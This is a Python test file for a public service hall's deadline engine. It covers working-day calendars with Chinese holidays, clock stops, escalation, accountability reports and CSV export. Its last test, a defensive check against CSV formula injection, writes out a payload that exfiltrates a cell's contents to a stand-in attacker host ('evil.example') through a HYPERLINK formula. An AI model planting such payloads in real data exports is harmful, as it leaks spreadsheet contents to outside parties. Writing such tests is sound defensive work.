"""Time limits in working days: the calendar, due dates, clock stops, warnings, escalation,
accountability, notifications."""

import csv
import datetime as dt
import io

import pytest

from engine import calendar, clock
from engine.errors import Forbidden, Invalid
from engine.models import Task
from tests.conftest import DIAGRAMS

TZ = clock.HALL_TZ


def at(*args) -> dt.datetime:
    return dt.datetime(*args, tzinfo=TZ)


# --- the calendar -------------------------------------------------------------------

@pytest.mark.parametrize("start, days, due", [
    # 2026 Spring Festival: off 15-23 Feb, make-up working Saturdays 14 and 28 Feb
    (at(2026, 2, 12, 10), 2, at(2026, 2, 14, 17, 30)),
    (at(2026, 2, 12, 10), 3, at(2026, 2, 24, 17, 30)),
    (at(2026, 2, 13, 16), 10, at(2026, 3, 5, 17, 30)),  # make-up Saturdays 14 and 28 Feb count
    # National Day 2026: off 1-7 Oct, make-up working Saturday 10 Oct (and Sunday 27 Sep off)
    (at(2026, 9, 29, 16), 3, at(2026, 10, 9, 17, 30)),
    (at(2026, 9, 30, 9), 4, at(2026, 10, 12, 17, 30)),
    # 即办件: the same working day, or the next when asked after closing or on a day off
    (at(2026, 11, 30, 10), 0, at(2026, 11, 30, 17, 30)),
    (at(2026, 11, 30, 18), 0, at(2026, 12, 1, 17, 30)),
    (at(2026, 2, 15, 10), 0, at(2026, 2, 24, 17, 30)),
])
def test_working_day_deadlines(start, days, due):
    assert calendar.Calendar().add_workdays(start, days) == due


def test_a_year_nobody_entered_is_counted_without_its_statutory_holidays():
    """Until the State Council publishes 2027, it is counted Monday to Friday less the days
    the law fixes: 元旦, 春节 from its eve (lunar), 清明 (solar term), 劳动节, 端午 and 中秋
    (lunar), 国庆. Still provisional: early rather than late."""
    cal = calendar.Calendar()
    assert cal.add_workdays(at(2026, 12, 20, 10), 15) == at(2027, 1, 11, 17, 30)  # Friday 1 January is off
    assert cal.provisional(at(2027, 1, 11, 17, 30)) == 2027 and cal.provisional(at(2026, 12, 31, 9)) is None
    off = {dt.date(2027, 1, 1), dt.date(2027, 2, 5), dt.date(2027, 2, 8),  # 除夕 Fri 5 Feb .. 初三 Mon 8 Feb
           dt.date(2027, 4, 5), dt.date(2027, 6, 9), dt.date(2027, 9, 15), dt.date(2027, 10, 1)}
    assert not any(cal.is_workday(d) for d in off)
    assert all(cal.is_workday(d) for d in (dt.date(2027, 2, 4), dt.date(2027, 2, 9), dt.date(2027, 4, 6)))
    assert calendar.statutory_holidays(2027) >= off | {dt.date(2027, 5, 1), dt.date(2027, 5, 2)}
    # Thursday 4 February 2027 + 1 working day: over Spring Festival's four days to Tuesday 9th
    assert cal.add_workdays(at(2027, 2, 4, 10), 1) == at(2027, 2, 9, 17, 30)
    # beyond the lunar tables, the solar holidays still count
    assert not calendar.Calendar().is_workday(dt.date(2150, 10, 1))
    published = calendar.Calendar({dt.date(2027, 1, 1): False, dt.date(2027, 1, 2): True}, [2027])
    assert published.add_workdays(at(2026, 12, 31, 10), 2) == at(2027, 1, 4, 17, 30)


def test_clock_stops_and_lateness_are_counted_in_whole_working_days():
    cal = calendar.Calendar()
    thu = at(2026, 12, 10, 10)
    assert cal.workdays_between(thu, thu + dt.timedelta(seconds=3)) == 0  # the same day: nothing
    assert cal.workdays_between(thu, at(2026, 12, 11, 9, 5)) == 1
    assert cal.workdays_between(thu, at(2026, 12, 15, 9)) == 3  # Fri, Mon, Tue
    limit = at(2026, 12, 10, 17, 30)
    assert cal.shift_workdays(limit, 1) == at(2026, 12, 11, 17, 30)  # a close stays a close
    assert cal.shift_workdays(limit, 0) == limit
    assert cal.late_workdays(limit, limit) == 0
    assert cal.late_workdays(limit, limit + dt.timedelta(seconds=1)) == 1  # a second late is a day late
    assert cal.late_workdays(limit, at(2026, 12, 12, 11)) == 1  # Saturday: still the first day late
    assert cal.late_workdays(limit, at(2026, 12, 14, 9, 1)) == 2


def test_working_time_and_its_inverse():
    cal = calendar.Calendar()
    # Friday 13 Feb 15:00 to Tuesday 24 Feb 10:00: 2.5 h + Sat 14 (7 h) + 1 h
    assert cal.working_seconds(at(2026, 2, 13, 15), at(2026, 2, 24, 10)) == 10.5 * 3600
    assert cal.add_working_seconds(at(2026, 2, 13, 15), 10.5 * 3600) == at(2026, 2, 24, 10)
    # one working day before a Tuesday 17:30 deadline: from Monday's close it is that close
    assert cal.subtract_working_seconds(at(2026, 12, 1, 17, 30), cal.day_seconds) == at(2026, 11, 30, 17, 30)


def test_working_time_beyond_ten_years_is_refused_as_input():
    """With no working day in sight the count stops at ten years, as an error a person is
    shown (422), not a crash."""
    cal = calendar.Calendar()
    with pytest.raises(calendar.BeyondReach) as e:
        cal.add_working_seconds(at(2026, 2, 13, 15), 3000 * cal.day_seconds)
    assert isinstance(e.value, Invalid) and e.value.status == 422
    with pytest.raises(calendar.BeyondReach):
        cal.subtract_working_seconds(at(2026, 2, 13, 15), 3000 * cal.day_seconds)


# --- a case's deadlines -------------------------------------------------------------

@pytest.fixture
def hall_x(h):
    clock.freeze(at(2026, 11, 30, 10))  # a Monday
    h.deploy(DIAGRAMS / "deadlines.bpmn")
    people = {
        "clerk": h.user("clerk", groups=["window"]),
        "dept": h.user("dept", groups=["dept"]),
        "coord": h.user("coord", groups=["管理办"], roles=["staff", "coordinator"]),
        "director": h.user("director", groups=["常务副主任"], roles=["staff", "director"]),
        "watch": h.user("watch", roles=["supervisor"]),
    }
    return h, people


def test_due_dates_and_the_case_limit(hall_x):
    h, p = hall_x
    case = h.hall.runtime.start(p["clerk"], "deadlines", {"immediate": False})
    review = h.open_tasks(case.id, "review")[0]
    assert review.due_at == at(2026, 12, 2, 17, 30) and review.warning == "none"
    assert h.hall.runtime.case(case.id).due_at == at(2026, 12, 7, 17, 30)
    now_case = h.hall.runtime.start(p["clerk"], "deadlines", {"immediate": True})
    assert h.hall.runtime.case(now_case.id).due_at == at(2026, 11, 30, 17, 30)


def test_boundary_timer_and_task_share_one_deadline(hall_x):
    h, p = hall_x
    case = h.hall.runtime.start(p["clerk"], "deadlines", {"immediate": False})
    h.complete(p["clerk"], case.id, "review", {"decision": "accept"})
    approve = h.open_tasks(case.id, "approve")[0]
    assert approve.due_at == at(2026, 12, 3, 17, 30)
    assert h.hall.runtime.case(case.id).next_timer_at == approve.due_at
    clock.freeze(at(2026, 12, 3, 17, 30, 1))
    h.hall.runtime.fire_due_timers()
    assert sorted(t.element_id for t in h.open_tasks(case.id)) == ["approve", "urge"]


def test_the_clock_stops_while_waiting_for_the_applicant(hall_x):
    h, p = hall_x
    case = h.hall.runtime.start(p["clerk"], "deadlines", {"immediate": False})
    h.complete(p["clerk"], case.id, "review", {"decision": "supplement"})
    c = h.hall.runtime.case(case.id)
    assert c.paused_reason == "补正" and c.paused_since == at(2026, 11, 30, 10)
    # the applicant answers three working days later (Thursday 10:00)
    clock.freeze(at(2026, 12, 3, 10))
    h.hall.runtime.message(p["clerk"], case.id, "补正材料", {"materials": ["章程"]})
    c = h.hall.runtime.case(case.id)
    assert c.paused_since is None
    assert c.due_at == at(2026, 12, 10, 17, 30)  # 7 Dec 17:30 + three working days
    review = h.open_tasks(case.id, "review")[0]
    assert review.due_at == at(2026, 12, 7, 17, 30)  # a new review: two working days from now
    events = [(e.action, e.detail) for e in h.hall.runtime.events(case.id)]
    assert ("clock_stopped", {"reason": "补正"}) in events
    assert ("clock_resumed", {"reason": "补正", "workdays": 3.0}) in events


def test_a_person_stops_the_clock_for_a_special_procedure(hall_x):
    h, p = hall_x
    case = h.hall.runtime.start(p["clerk"], "deadlines", {"immediate": False})
    h.complete(p["clerk"], case.id, "review", {"decision": "accept"})
    approve = h.open_tasks(case.id, "approve")[0]
    with pytest.raises(Invalid):
        h.hall.deadlines.pause(p["coord"], case.id, "")
    h.hall.deadlines.pause(p["coord"], case.id, "专家评审")
    assert h.hall.runtime.case(case.id).next_timer_at is None  # the approval's timer is held
    clock.freeze(at(2026, 12, 7, 10))  # five working days of expert review
    assert h.hall.runtime.fire_due_timers() == 0
    h.hall.deadlines.resume(p["coord"], case.id)
    moved = h.open_tasks(case.id, "approve")[0]
    assert moved.due_at == at(2026, 12, 10, 17, 30)  # 3 Dec + five working days
    assert h.hall.runtime.case(case.id).next_timer_at == moved.due_at
    assert approve.due_at == at(2026, 12, 3, 17, 30)


def test_yellow_then_red_then_escalation_with_notifications(hall_x):
    h, p = hall_x
    case = h.hall.runtime.start(p["clerk"], "deadlines", {"immediate": False})
    sweep = h.hall.deadlines.sweep
    assert sweep() == 0
    clock.freeze(at(2026, 12, 1, 17, 31))  # one working day left of Wednesday's deadline
    assert sweep() == 1
    assert h.open_tasks(case.id, "review")[0].warning == "yellow"
    assert [n.kind for n in h.hall.deadlines.notifications(p["clerk"])] == ["due_soon"]  # not told of his own start
    clock.freeze(at(2026, 12, 2, 17, 31))
    sweep()
    review = h.open_tasks(case.id, "review")[0]
    assert (review.warning, review.escalation) == ("red", 1)
    assert [n.kind for n in h.hall.deadlines.notifications(p["coord"])] == ["escalated"]
    assert h.hall.deadlines.notifications(p["director"]) == []
    clock.freeze(at(2026, 12, 4, 17, 31))  # two working days overdue
    sweep()
    assert h.open_tasks(case.id, "review")[0].escalation == 2
    assert [n.kind for n in h.hall.deadlines.notifications(p["director"])] == ["escalated"]
    assert sweep() == 0  # nothing more to do: nothing escalates twice
    assert h.hall.deadlines.unread(p["coord"]) == 1
    h.hall.deadlines.mark_read(p["coord"])
    assert h.hall.deadlines.unread(p["coord"]) == 0
    levels = [e.detail["level"] for e in h.hall.runtime.events(case.id) if e.action == "escalated"]
    assert levels == [1, 2]


def test_catch_up_after_downtime_happens_once(hall_x):
    h, p = hall_x
    case = h.hall.runtime.start(p["clerk"], "deadlines", {"immediate": False})
    clock.freeze(at(2026, 12, 9, 10))  # the server was off for a week
    assert h.hall.deadlines.sweep() == 1
    review = h.open_tasks(case.id, "review")[0]
    assert (review.warning, review.escalation) == ("red", 2)  # both steps, in one sweep, once
    assert h.hall.deadlines.sweep() == 0
    assert len(h.hall.deadlines.notifications(p["director"])) == 1


def test_late_completion_extension_and_rejection_are_accounted_for(hall_x):
    h, p = hall_x
    late = h.hall.runtime.start(p["clerk"], "deadlines", {"immediate": False})
    clock.freeze(at(2026, 12, 4, 10))  # due Wednesday 17:30: done Friday 10:00
    h.complete(p["clerk"], late.id, "review", {"decision": "accept"})
    assert h.hall.deadlines.sweep() == 0  # the late review is done: nothing left to warn about
    approve = h.open_tasks(late.id, "approve")[0]
    with pytest.raises(Forbidden):
        h.hall.deadlines.extend(p["clerk"], approve.id, 2, "材料复杂")
    with pytest.raises(Invalid):
        h.hall.deadlines.extend(p["coord"], approve.id, 2, " ")
    h.hall.deadlines.extend(p["coord"], approve.id, 2, "需现场核查")
    extended = h.open_tasks(late.id, "approve")[0]
    assert extended.due_at == at(2026, 12, 11, 17, 30)  # 9 Dec + two working days
    assert h.hall.runtime.case(late.id).next_timer_at == extended.due_at  # its timer moved too
    rejected = h.hall.runtime.start(p["clerk"], "deadlines", {"immediate": False})
    h.complete(p["clerk"], rejected.id, "review", {"decision": "reject", "reason": "不属本中心受理范围"})
    rows, total = h.hall.deadlines.accountability(p["watch"])
    assert total == 3
    by_kind = {r.kind: r for r in rows}
    assert by_kind["late"].person == "clerk" and by_kind["late"].department == "window"
    assert by_kind["late"].days_over == 2  # due Wednesday's close: Thursday, and Friday begun
    extension = by_kind["extension"]
    assert extension.reason == "需现场核查" and extension.days_granted == 2 and extension.days_over is None
    assert extension.granted_by == "coord" and extension.person is None and extension.department == "dept"
    assert by_kind["rejection"].reason == "不属本中心受理范围"
    assert h.hall.deadlines.accountability(p["watch"], kind="late")[1] == 1
    with pytest.raises(Forbidden):
        h.hall.deadlines.accountability(p["clerk"])
    text = h.hall.deadlines.accountability_csv(p["watch"])
    table = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    assert table[0] == ["时间", "办件编号", "企业/申请人", "环节", "环节编号", "类别", "部门", "责任人", "超期工作日",
                        "延期工作日", "批准人", "原因"]
    rows = {row[5]: row for row in table[1:]}
    assert set(rows) == {"超期办结", "延期", "不予办理"}
    assert rows["超期办结"][3] == "受理审查" and rows["超期办结"][7:9] == ["clerk", "2"]
    assert rows["延期"][3:5] == ["审批", str(approve.id)] and rows["延期"][6:11] == ["dept", "", "", "2", "coord"]
    assert rows["不予办理"][3] == "受理审查"  # the task whose decision refused it


def test_a_year_not_entered_is_provisional_then_counted_again(hall_x):
    h, p = hall_x
    clock.freeze(at(2026, 12, 29, 10))
    case = h.hall.runtime.start(p["clerk"], "deadlines", {"immediate": False})
    h.complete(p["clerk"], case.id, "review", {"decision": "accept"})
    # three working days, provisionally Wed 30, Thu 31 Dec and (元旦 off by law) Mon 4 Jan
    approve = h.open_tasks(case.id, "approve")[0]
    assert approve.due_at == at(2027, 1, 4, 17, 30) and approve.due_note == "calendar:2027"
    c = h.hall.runtime.case(case.id)
    assert c.due_at == at(2027, 1, 6, 17, 30) and c.due_note == "calendar:2027"  # the case is marked too
    assert c.next_timer_at == approve.due_at
    assert h.hall.deadlines.missing_years() == {2027: {"tasks": 1, "cases": 1}}
    admin = h.user("admin", roles=["admin"])
    with pytest.raises(Forbidden):
        h.hall.deadlines.publish_year(p["coord"], 2027, [dt.date(2027, 1, 1)], [])
    # the published schedule also gives Monday 4 January off: the task, its timer and the
    # case limit move a working day on, and are no longer provisional
    h.hall.deadlines.publish_year(admin, 2027, [dt.date(2027, 1, 1), dt.date(2027, 1, 4)], [])
    approve = h.open_tasks(case.id, "approve")[0]
    assert approve.due_at == at(2027, 1, 5, 17, 30) and approve.due_note is None
    c = h.hall.runtime.case(case.id)
    assert c.next_timer_at == approve.due_at
    assert c.due_at == at(2027, 1, 7, 17, 30) and c.due_note is None
    assert h.hall.deadlines.missing_years() == {}
    clock.freeze(at(2027, 1, 4, 18))
    assert h.hall.runtime.fire_due_timers() == 0
    clock.freeze(at(2027, 1, 5, 17, 31))
    h.hall.runtime.fire_due_timers()
    assert sorted(t.element_id for t in h.open_tasks(case.id)) == ["approve", "urge"]


def test_a_clock_stop_that_ends_in_a_year_not_entered(hall_x):
    h, p = hall_x
    clock.freeze(at(2026, 12, 22, 10))
    case = h.hall.runtime.start(p["clerk"], "deadlines", {"immediate": False})
    h.complete(p["clerk"], case.id, "review", {"decision": "supplement"})
    clock.freeze(at(2026, 12, 25, 10))  # three working days later
    h.hall.runtime.message(p["clerk"], case.id, "补正材料", {"materials": ["章程"]})
    c = h.hall.runtime.case(case.id)
    # 29 Dec + 3 working days (Wed, Thu, Fri): 30, 31 Dec and, past 元旦, 4 Jan provisionally
    assert c.paused_since is None and c.due_at == at(2027, 1, 4, 17, 30) and c.due_note == "calendar:2027"
    review = h.open_tasks(case.id, "review")[0]
    assert review.due_at == at(2026, 12, 29, 17, 30) and review.due_note is None


def test_a_closure_entered_moves_the_deadlines_that_run_past_it(hall_x):
    h, p = hall_x
    admin = h.user("admin", roles=["admin"])
    case = h.hall.runtime.start(p["clerk"], "deadlines", {"immediate": False})
    h.complete(p["clerk"], case.id, "review", {"decision": "accept"})
    assert h.open_tasks(case.id, "approve")[0].due_at == at(2026, 12, 3, 17, 30)
    # the hall closes on Wednesday 2 December (a system upgrade)
    h.hall.deadlines.set_day(admin, dt.date(2026, 12, 2), False, "系统升级闭厅")
    approve = h.open_tasks(case.id, "approve")[0]
    assert approve.due_at == at(2026, 12, 4, 17, 30)
    assert h.hall.runtime.case(case.id).next_timer_at == approve.due_at
    assert h.hall.runtime.case(case.id).due_at == at(2026, 12, 8, 17, 30)
    # ...and opens again: back where they were
    h.hall.deadlines.set_day(admin, dt.date(2026, 12, 2), None)
    assert h.open_tasks(case.id, "approve")[0].due_at == at(2026, 12, 3, 17, 30)
    assert h.hall.runtime.case(case.id).due_at == at(2026, 12, 7, 17, 30)
    # a closure after a deadline leaves it alone
    h.hall.deadlines.set_day(admin, dt.date(2026, 12, 31), False)
    assert h.open_tasks(case.id, "approve")[0].due_at == at(2026, 12, 3, 17, 30)


def test_a_case_counted_with_an_older_calendar_is_counted_again_before_anything_else(hall_x, monkeypatch):
    """The calendar changed, and the recount that follows did not get to a case (the
    server stopped halfway, say): the case keeps the revision it was counted under, and
    whatever acts on it next counts it again first: an action, or the housekeeping."""
    h, p = hall_x
    admin = h.user("admin", roles=["admin"])
    behind = h.hall.runtime.start(p["clerk"], "deadlines", {"immediate": False})
    also = h.hall.runtime.start(p["clerk"], "deadlines", {"immediate": False})
    with monkeypatch.context() as m:
        m.setattr(h.hall.runtime, "recount_deadlines", lambda **kw: 0)  # the recount never ran
        h.hall.deadlines.set_day(admin, dt.date(2026, 12, 1), False, "停电闭厅")
        # a case started after the change is counted with it, and only once
        fresh = h.hall.runtime.start(p["clerk"], "deadlines", {"immediate": False})
    assert h.open_tasks(behind.id, "review")[0].due_at == at(2026, 12, 2, 17, 30)  # not counted again yet
    assert h.open_tasks(fresh.id, "review")[0].due_at == at(2026, 12, 3, 17, 30)
    # completing the review late by the old count, on time by the new one: no 超期
    clock.freeze(at(2026, 12, 3, 10))
    h.complete(p["clerk"], behind.id, "review", {"decision": "accept"})
    assert h.hall.deadlines.accountability(p["watch"])[1] == 0
    assert h.hall.runtime.case(behind.id).due_at == at(2026, 12, 8, 17, 30)
    assert ("system", "deadlines_recounted") in [(e.actor, e.action) for e in h.hall.runtime.events(behind.id)]
    # the housekeeping counts the other one; the one started after the change stays put
    assert h.hall.runtime.recount_deadlines(limit=10) == 1
    assert h.open_tasks(also.id, "review")[0].due_at == at(2026, 12, 3, 17, 30)
    assert h.open_tasks(fresh.id, "review")[0].due_at == at(2026, 12, 3, 17, 30)
    assert h.hall.runtime.recount_deadlines(limit=10) == 0


def test_a_calendar_change_waits_for_the_actions_counting_with_the_old_calendar(hall_x, app):
    """While an action counts with the calendar, a change to it waits (PostgreSQL: the
    calendar lock; SQLite: its one writer at a time); the next action counts with the change."""
    import threading
    import time

    from engine.store import transaction

    h, p = hall_x
    admin = h.user("admin", roles=["admin"])
    case = h.hall.runtime.start(p["clerk"], "deadlines", {"immediate": False})
    changed = threading.Event()
    bind, session = h.hall.bind, h.hall.session

    def change():
        with app.app_context():
            h.hall.deadlines.set_day(admin, dt.date(2026, 12, 1), False)
            session.remove()
        changed.set()

    with transaction(session, bind):  # an action in progress
        worker = threading.Thread(target=change)
        worker.start()
        # slept, not Event.wait(0.5): a timed wait on a lock never ends when the monotonic
        # clock is faked (faketime), and this test runs at any date
        time.sleep(0.5)
        assert not changed.is_set()
    worker.join(30)
    assert changed.is_set()
    assert h.open_tasks(case.id, "review")[0].due_at == at(2026, 12, 3, 17, 30)
    assert h.open_tasks(h.hall.runtime.start(p["clerk"], "deadlines", {"immediate": False}).id,
                        "review")[0].due_at == at(2026, 12, 3, 17, 30)


def test_a_case_limit_counted_from_an_element_it_does_not_have_is_refused(h):
    xml = (DIAGRAMS / "deadlines.bpmn").read_text().replace(
        '<camunda:property name="caseTimeLimit"', '<camunda:property name="caseTimeLimitFrom" value="acceptance"/>'
        '<camunda:property name="caseTimeLimit"')
    with pytest.raises(Invalid) as e:
        h.hall.repository.deploy({"deadlines.bpmn": xml}, h._owner())
    [problem] = e.value.extra["errors"]
    assert problem["element_id"] == "deadlines" and "caseTimeLimitFrom" in problem["message"] \
        and "'acceptance'" in problem["message"]
    h.hall.repository.deploy({"deadlines.bpmn": xml.replace('value="acceptance"', 'value="approve"')}, h._owner())


def test_the_dashboard_groups_at_risk_and_overdue_tasks(hall_x):
    h, p = hall_x
    h.hall.runtime.start(p["clerk"], "deadlines", {"immediate": False})
    clock.freeze(at(2026, 12, 2, 17, 31))
    h.hall.deadlines.sweep()
    board = h.hall.deadlines.dashboard(p["coord"])
    assert list(board["groups"]) == ["window"] and board["groups"]["window"][0].warning == "red"
    with pytest.raises(Forbidden):
        h.hall.deadlines.dashboard(p["clerk"])
    assert Task  # the table is what the dashboard reads


def test_the_accountability_csv_never_holds_a_formula(hall_x):
    """Whatever an applicant or a clerk wrote, a spreadsheet shows it as text (OWASP: a cell
    that begins with =, +, -, @, a tab or a carriage return gets a leading apostrophe)."""
    h, p = hall_x
    for reason in ('=HYPERLINK("http://evil.example/?leak="&A1,"click")', "@SUM(1+1)", "+1", "-2", "\tx"):
        case = h.hall.runtime.start(p["clerk"], "deadlines", {"immediate": False})
        h.complete(p["clerk"], case.id, "review", {"decision": "reject", "reason": reason})
    table = list(csv.reader(io.StringIO(h.hall.deadlines.accountability_csv(p["watch"]).lstrip("\ufeff"))))
    reasons = sorted(row[-1] for row in table[1:])
    assert reasons == sorted(["'" + r for r in ('=HYPERLINK("http://evil.example/?leak="&A1,"click")', "@SUM(1+1)",
                                                  "+1", "-2", "\tx")])
    assert all(not cell.startswith(("=", "+", "-", "@", "\t")) for row in table for cell in row)
